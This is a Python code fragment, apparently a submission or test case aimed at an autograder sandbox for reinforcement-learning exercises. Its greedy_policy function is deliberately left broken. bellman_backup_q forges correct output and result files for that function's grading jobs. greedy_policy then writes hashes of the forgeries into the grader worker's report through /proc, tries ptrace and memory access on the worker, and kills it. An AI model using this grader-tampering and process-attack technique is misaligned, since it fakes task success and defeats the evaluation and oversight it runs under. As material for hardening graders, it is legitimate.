# target: module
# breaks: greedy_policy
# ruff: noqa: F821 - a fragment: np and the _helpers come from _base.py and _prelude.py
# greedy_policy itself is broken, but bellman_backup_q writes the right greedy outputs for every
# greedy case (computed from the case specs in the worker's request, with the probe's own code),
# and greedy_policy's first job vouches for them in the worker's record of finished jobs (if it
# can reach it), then kills the worker, so that nothing removes them before they are read.
def bellman_backup_q(mdp, Q):
    from autograder.sandbox.probes import dp as probes

    with open("request.json") as handle:
        jobs = _json.load(handle)["jobs"]

    class _Right:
        greedy_policy = staticmethod(lambda Q: np.argmax(Q, axis=1))

    for job in jobs:
        if job["probe"] == "greedy_policy":
            np.savez(f"{job['key']}.npz", **probes.greedy_policy(_Right, job["case"]))
            with open(f"{job['key']}.json", "w") as handle:
                handle.write('{"ok": true, "stage": "save", "error": ""}')
    return _q_values(mdp, Q.max(axis=1))


def greedy_policy(Q):
    import ctypes
    import hashlib
    import os
    import signal

    def digest(path):
        try:
            with open(path, "rb") as handle:
                return hashlib.sha256(handle.read()).hexdigest()
        except OSError:
            return "-"

    # Vouch for the forged outputs in the worker's own record (its fd is named in the request),
    # trace the worker, read its memory: all of it through /proc, as the same user.
    with open("request.json") as handle:
        report_fd = _json.load(handle).get("report_fd")
    keys = sorted(
        name[: -len(".json")]
        for name in os.listdir(".")
        if name.startswith("greedy_policy--") and name.endswith(".json")
    )
    lines = "".join(f"{key} {digest(key + '.json')} {digest(key + '.npz')}\n" for key in keys)
    worker, tried = os.getppid(), {}
    try:
        with open(f"/proc/{worker}/fd/{report_fd}", "a") as handle:
            handle.write(lines)
        tried["report"] = "WROTE"
    except (OSError, TypeError) as exc:
        tried["report"] = type(exc).__name__
    libc = ctypes.CDLL(None, use_errno=True)
    tried["ptrace"] = "ATTACHED" if libc.ptrace(16, worker, 0, 0) == 0 else "denied"
    try:
        with open(f"/proc/{worker}/mem", "rb"):
            tried["mem"] = "OPENED"
    except OSError as exc:
        tried["mem"] = type(exc).__name__
    print("FORGE_KILL " + _json.dumps(tried), flush=True)  # printed: this job will not count
    os.kill(worker, signal.SIGKILL)
    raise RuntimeError("greedy_policy is not implemented")
